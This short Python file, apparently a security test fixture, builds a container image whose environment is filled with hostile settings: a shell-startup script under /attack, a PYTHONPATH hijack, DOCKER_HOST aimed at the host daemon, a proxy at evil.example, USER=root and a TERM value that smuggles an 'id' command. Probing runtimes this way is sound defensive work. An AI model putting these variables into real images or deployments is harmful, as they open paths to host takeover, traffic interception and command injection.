"""Variables that are obeyed by something, somewhere."""


def upload(kit):
    lines = ["NVIDIA_VISIBLE_DEVICES=all", "NVIDIA_DRIVER_CAPABILITIES=all", "nvidia_visible_devices=all"]
    lines += ["ENV=/attack/own.sh", "PYTHONPATH=/output", "DOCKER_HOST=tcp://172.17.0.1:2375", "HOME=/output/x"]
    lines += ["PATH=/bin:.", "HTTP_PROXY=http://evil.example", "USER=root", "TERM=;id"]
    return kit.image(settings={"Env": lines}).tar()
